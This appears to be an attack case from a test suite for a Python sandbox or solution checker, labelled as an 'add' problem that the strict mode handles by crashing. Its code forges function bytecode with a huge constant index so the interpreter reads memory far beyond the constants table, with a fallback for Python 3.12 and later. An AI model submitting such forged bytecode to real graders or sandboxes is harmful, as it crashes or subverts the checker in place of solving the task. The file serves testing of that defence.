# attack: bytecode that reads far beyond its constants
# problem: add
# strict: crashed
import dis
import marshal


def three():
    return 1


text = marshal.dumps(three.__code__)
beyond = b"\x90\x7f\x90\xff\x90\xff\x64\xff"
code = text.replace(b"\x64\x01\x53\x00", beyond + b"\x53\x00").replace(b"\x06\x00\x00\x00\x97\x00", b"\x0c\x00\x00\x00\x97\x00")
if beyond in code:
    code = marshal.loads(code)
else:  # since Python 3.12 another instruction gives a constant back
    steps = [dis.opmap["RESUME"], 0] + [dis.opmap["EXTENDED_ARG"], 127] * 3 + [dis.opmap["LOAD_CONST"], 255, dis.opmap["RETURN_VALUE"], 0]
    code = three.__code__.replace(co_code=bytes(steps))


def add(a, b):
    return type(three)(code, {})()
